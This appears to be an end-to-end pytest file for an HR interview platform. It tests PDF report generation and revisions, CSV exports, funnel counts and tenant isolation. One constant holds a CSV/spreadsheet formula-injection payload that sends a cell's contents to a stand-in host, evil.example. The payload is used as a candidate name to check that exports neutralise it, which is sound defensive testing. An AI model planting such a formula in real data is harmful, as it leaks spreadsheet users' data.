"""Reports on the live local stack, through API Gateway: a candidate completes a real interview
(text and multiple choice), the analysis completes, the reports consumer makes the PDF (its job
polled until ready), HR downloads it by its presigned GET and pdftotext finds the overall score,
an evidence quote and the decision; each decision change makes a new revision; CSV exports of
the template and of the company are made, downloaded and parsed (a formula in a candidate's name
comes out neutralised); the funnel counts exactly what was done; another company sees none of it.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from scripts.main_job import CONSENT, TOKEN_HEADER
from tests.e2e.analysis.conftest import wait_for
from tests.e2e.identity_actors import Actor, make_hr_with_company

PROBLEM = "application/problem+json"
# What a spreadsheet would run as a formula, were it not neutralised.
INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
UNICODE_NAME = "Zoë Łukasiewicz-Ørsted 李小龍"
TEXT_ANSWER = (
    "I would read the query plan with explain analyze first. "
    "Then I would add the missing index on the customer id, because a sequential scan on ten "
    "million rows is the usual cause. Finally I would measure again with the same load."
)
EXPORT_HEADER = [
    "invitation_id",
    "template_id",
    "candidate_name",
    "candidate_email",
    "status",
    "invited_at",
    "started_at",
    "completed_at",
    "analysed_at",
    "relevance",
    "completeness",
    "clarity",
    "depth",
    "overall",
    "recommendation",
    "decision",
    "decided_at",
]
# A PDF is made within seconds once its event is consumed; the analysis before it takes longer.
ANALYSIS_DEADLINE_S = 240
REPORT_DEADLINE_S = 120


def _ok(response: httpx.Response, *statuses: int) -> dict[str, Any]:
    assert response.status_code in (statuses or (200,)), (
        f"{response.request.method} {response.request.url.path} -> "
        f"{response.status_code}: {response.text[:500]}"
    )
    body: dict[str, Any] = response.json()
    return body


def _template(api: httpx.Client, hr: Actor, title: str) -> tuple[str, dict[str, Any]]:
    """A published template with a text and a multiple-choice question: its id and questions."""
    template = _ok(api.post("v1/templates", json={"title": title}, headers=hr.headers()), 201)
    template_id = str(template["id"])
    questions: dict[str, Any] = {}
    for body in (
        {"type": "text", "text": "How would you make a slow SQL query faster?"},
        {
            "type": "multiple_choice",
            "text": "Which isolation level prevents non-repeatable reads?",
            "options": [
                {"text": "Read committed", "correct": False},
                {"text": "Repeatable read", "correct": True},
            ],
        },
    ):
        created = _ok(
            api.post(f"v1/templates/{template_id}/questions", json=body, headers=hr.headers()),
            201,
        )["question"]
        questions[str(body["type"])] = created
    _ok(api.post(f"v1/templates/{template_id}/publish", headers=hr.headers()))
    return template_id, questions


def _invite(api: httpx.Client, hr: Actor, template_id: str, name: str) -> dict[str, Any]:
    body = {
        "template_id": template_id,
        "candidate_name": name,
        "candidate_email": f"cand-{uuid.uuid4().hex[:10]}@example.com",
    }
    return _ok(api.post("v1/invitations", json=body, headers=hr.headers()), 201)


def _link(invitation: dict[str, Any]) -> dict[str, str]:
    return {TOKEN_HEADER: str(invitation["link_token"])}


def _complete(api: httpx.Client, invitation: dict[str, Any], questions: dict[str, Any]) -> None:
    """The candidate's flow: consent and start, answer both questions, complete."""
    link = _link(invitation)
    _ok(api.post("v1/candidate/interview/start", json=CONSENT, headers=link), 200, 201)
    correct = [o["id"] for o in questions["multiple_choice"]["options"] if o["correct"]]
    for question_id, body in (
        (questions["text"]["id"], {"text": TEXT_ANSWER}),
        (questions["multiple_choice"]["id"], {"option_ids": correct}),
    ):
        _ok(
            api.post(
                f"v1/candidate/interview/questions/{question_id}/answer", json=body, headers=link
            ),
            201,
        )
    _ok(
        api.post("v1/candidate/interview/complete", json={"reason": "manual"}, headers=link),
        200,
        201,
    )


def _report_ready(api: httpx.Client, hr: Actor, invitation_id: str, after: int) -> dict[str, Any]:
    """The PDF job once a revision newer than ``after`` is ready (a failure fails the test)."""

    def check() -> dict[str, Any] | None:
        response = api.get(f"v1/invitations/{invitation_id}/report", headers=hr.headers())
        if response.status_code == 404:
            return None  # the job is made when the analysis.completed event is consumed
        job = _ok(response)
        assert job["status"] != "failed", job
        return job if job["status"] == "ready" and job["revision"] > after else None

    job: dict[str, Any] = wait_for(
        check, REPORT_DEADLINE_S, f"revision > {after} of the PDF", interval_s=1
    )
    return job


def _pdf_text(url: str, path: Path) -> str:
    download = httpx.get(url, timeout=60)
    assert download.status_code == 200, download.text[:300]
    assert download.content.startswith(b"%PDF-")
    path.write_bytes(download.content)
    text = subprocess.run(
        ["pdftotext", str(path), "-"],
        check=True,
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    return " ".join(text.split())  # lines wrap where the page does; compare words


def _score_text(value: float) -> str:
    return f"{value:.1f}".removesuffix(".0") + "/100"


def _export(api: httpx.Client, hr: Actor, body: dict[str, Any]) -> list[dict[str, str]]:
    """Ask for an export, poll its job until ready, download it and parse it."""
    created = _ok(api.post("v1/reports/exports", json=body, headers=hr.headers()), 202)
    assert created["status"] == "queued", created
    assert created["download_url"] is None

    def check() -> dict[str, Any] | None:
        job = _ok(api.get(f"v1/reports/exports/{created['job_id']}", headers=hr.headers()))
        assert job["status"] != "failed", job
        return job if job["status"] == "ready" else None

    job: dict[str, Any] = wait_for(check, REPORT_DEADLINE_S, "the CSV export", interval_s=1)
    download = httpx.get(job["download_url"], timeout=60)
    assert download.status_code == 200, download.text[:300]
    raw = download.content
    assert raw.startswith(b"\xef\xbb\xbf") == bool(body.get("excel")), raw[:20]
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == EXPORT_HEADER
    assert job["row_count"] == len(rows)
    assert job["bytes"] == len(raw)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _stages(view: dict[str, Any]) -> dict[str, int]:
    return {s["stage"]: s["count"] for s in view["stages"]}


@dataclass
class Scenario:
    """One company's invitations: on the first template one candidate completes (analysed),
    one starts and stops, one (whose name is a formula) never starts; one on the second."""

    hr: Actor
    other: Actor  # HR of another company
    template_id: str
    invitation_id: str  # the completed one
    started_id: str
    injected_id: str
    elsewhere_id: str  # on the second template
    analysis: dict[str, Any]


def _scenario(api: httpx.Client) -> Scenario:
    hr = make_hr_with_company(api, "hr-reports")
    other = make_hr_with_company(api, "hr-reports-other")
    template_id, questions = _template(api, hr, "Reports: backend engineer")
    second_id, _ = _template(api, hr, "Reports: data engineer")
    done = _invite(api, hr, template_id, UNICODE_NAME)
    started = _invite(api, hr, template_id, "Ada Lovelace")
    injected = _invite(api, hr, template_id, INJECTED)
    elsewhere = _invite(api, hr, second_id, "Alan Turing")
    _ok(api.post("v1/candidate/interview/start", json=CONSENT, headers=_link(started)), 200, 201)
    _complete(api, done, questions)
    invitation_id = str(done["id"])

    def analysis() -> dict[str, Any] | None:
        response = api.get(f"v1/invitations/{invitation_id}/analysis", headers=hr.headers())
        if response.status_code != 200:
            return None
        body: dict[str, Any] = response.json()
        return body if body["status"] in ("completed", "failed") else None

    result = wait_for(analysis, ANALYSIS_DEADLINE_S, "the analysis", interval_s=2)
    assert result["status"] == "completed", result
    return Scenario(
        hr,
        other,
        template_id,
        invitation_id,
        str(started["id"]),
        str(injected["id"]),
        str(elsewhere["id"]),
        result,
    )


def _quotes(analysis: dict[str, Any]) -> list[str]:
    return [
        q["text"]
        for a in analysis["answers"]
        if a["criteria"]
        for c in a["criteria"].values()
        for q in c["quotes"]
    ]


def _pdf_and_its_revisions(api: httpx.Client, s: Scenario, tmp_path: Path) -> None:
    hr, invitation_id, result = s.hr, s.invitation_id, s.analysis
    quotes = _quotes(result)
    assert quotes, result
    # Then its PDF is made (its job visible while made), and downloads by a presigned GET
    first = _report_ready(api, hr, invitation_id, after=0)
    assert first["kind"] == "candidate_pdf"
    assert first["bytes"] > 1000
    assert first["download_expires_at"] is not None
    text = _pdf_text(first["download_url"], tmp_path / "r1.pdf")
    assert f"Overall score: {_score_text(result['overall'])}" in text, text[:2000]
    assert " ".join(quotes[0].split()) in text, (quotes[0], text[:4000])
    assert UNICODE_NAME in text
    assert "No decision yet." in text

    # When HR decides, and then changes the decision
    revisions = [first["revision"]]
    for decision in ("advance", "reject"):
        _ok(
            api.post(
                f"v1/invitations/{invitation_id}/decision",
                json={"decision": decision, "note": f"Decided {decision} after the panel."},
                headers=hr.headers(),
            )
        )
        job = _report_ready(api, hr, invitation_id, after=revisions[-1])
        revisions.append(job["revision"])
        # Then each decision makes a new revision (a new file) that prints it
        assert job["download_url"] != first["download_url"]
        text = _pdf_text(job["download_url"], tmp_path / f"r{job['revision']}.pdf")
        assert f"Decision: {decision}" in text, text[-2000:]
        assert f"Decided {decision} after the panel." in text
    assert revisions == sorted(set(revisions)), revisions


FINAL_STAGES = {"started": 2, "completed": 1, "analysed": 1, "advanced": 0, "rejected": 1}


def _funnel(api: httpx.Client, s: Scenario) -> None:
    def funnel(params: dict[str, str], invited: int) -> dict[str, Any] | None:
        view = _ok(api.get("v1/reports/funnel", params=params, headers=s.hr.headers()))
        stages = _stages(view)
        # The facts follow the events; wait for the last one (the decision change)
        return view if stages["invited"] == invited and stages["rejected"] == 1 else None

    # Then the funnel counts exactly what happened, per template and for the company
    per_template = wait_for(
        lambda: funnel({"template_id": s.template_id}, 3), REPORT_DEADLINE_S, "template funnel"
    )
    assert _stages(per_template) == {"invited": 3, **FINAL_STAGES}
    assert per_template["recommendations"][s.analysis["recommendation"]] == 1
    assert sum(b["count"] for b in per_template["scores"]) == 1
    assert per_template["time_to_start"]["count"] == 2
    assert per_template["time_to_complete"]["count"] == 1
    company = wait_for(lambda: funnel({}, 4), REPORT_DEADLINE_S, "the company funnel")
    assert _stages(company) == {"invited": 4, **FINAL_STAGES}
    # and another company's funnel has none of it
    assert _stages(_ok(api.get("v1/reports/funnel", headers=s.other.headers())))["invited"] == 0


def _exports(api: httpx.Client, s: Scenario) -> None:
    # Then the template's CSV export (Excel-friendly) has exactly its three invitations
    rows = _export(api, s.hr, {"template_id": s.template_id, "excel": True})
    by_id = {r["invitation_id"]: r for r in rows}
    assert set(by_id) == {s.invitation_id, s.started_id, s.injected_id}
    assert {r["template_id"] for r in rows} == {s.template_id}
    completed = by_id[s.invitation_id]
    assert completed["candidate_name"] == UNICODE_NAME
    assert (completed["status"], completed["decision"]) == ("completed", "reject")
    assert completed["recommendation"] == s.analysis["recommendation"]
    assert float(completed["overall"]) == pytest.approx(s.analysis["overall"])
    for column in ("relevance", "completeness", "clarity", "depth"):
        assert completed[column] != "", column
    for column in ("started_at", "completed_at", "analysed_at", "decided_at"):
        assert completed[column].endswith("Z"), column
    assert by_id[s.started_id]["status"] == "in_progress"
    assert by_id[s.started_id]["overall"] == ""
    # and the formula in a name comes out as text, not as a formula
    assert by_id[s.injected_id]["candidate_name"] == "'" + INJECTED
    assert by_id[s.injected_id]["status"] == "pending"
    # And the company's export (plain UTF-8) has every invitation of both templates
    company_rows = _export(api, s.hr, {})
    assert {r["invitation_id"] for r in company_rows} == {*by_id, s.elsewhere_id}


def _tenancy(api: httpx.Client, s: Scenario) -> None:
    # Then another company sees neither the report nor the export (404), nor regenerates it
    path = f"v1/invitations/{s.invitation_id}/report"
    export = _ok(api.post("v1/reports/exports", json={}, headers=s.hr.headers()), 202)
    for response in (
        api.get(path, headers=s.other.headers()),
        api.post(path, headers=s.other.headers()),
        api.get(f"v1/reports/exports/{export['job_id']}", headers=s.other.headers()),
    ):
        assert response.status_code == 404, response.text
        assert response.headers["content-type"].startswith(PROBLEM)


@pytest.mark.timeout(900)
def test_reports_from_a_real_interview_pdf_revisions_csv_exports_and_the_funnel(
    api: httpx.Client, tmp_path: Path
) -> None:
    if shutil.which("pdftotext") is None:
        pytest.fail("pdftotext is missing: `make setup` installs poppler-utils")
    # Given a company's invitations, one of them completed and analysed
    scenario = _scenario(api)
    # When its PDF is made and HR decides twice: a new revision each time
    _pdf_and_its_revisions(api, scenario, tmp_path)
    # Then the funnel, the exports and the tenancy
    _funnel(api, scenario)
    _exports(api, scenario)
    _tenancy(api, scenario)


def test_hr_asks_for_the_pdf_again_and_gets_a_new_revision(api: httpx.Client) -> None:
    # Given a ready PDF of a completed, analysed interview
    hr = make_hr_with_company(api, "hr-reports-again")
    template_id, questions = _template(api, hr, "Reports: again")
    invitation = _invite(api, hr, template_id, "Grace Hopper")
    _complete(api, invitation, questions)
    invitation_id = str(invitation["id"])
    _wait_analysed(api, hr, invitation_id)
    first = _report_ready(api, hr, invitation_id, after=0)
    # When HR asks for it again
    again = _ok(api.post(f"v1/invitations/{invitation_id}/report", headers=hr.headers()), 202)
    # Then a new revision is queued, and is made
    assert again["status"] == "queued"
    assert again["revision"] > first["revision"]
    made = _report_ready(api, hr, invitation_id, after=first["revision"])
    assert made["revision"] == again["revision"]
    assert made["download_url"] != first["download_url"]


def _wait_analysed(api: httpx.Client, hr: Actor, invitation_id: str) -> None:
    def check() -> str | None:
        response = api.get(f"v1/invitations/{invitation_id}/analysis", headers=hr.headers())
        status = response.json().get("status") if response.status_code == 200 else None
        return status if status in ("completed", "failed") else None

    status = wait_for(check, ANALYSIS_DEADLINE_S, "the analysis", interval_s=2)
    assert status == "completed", status
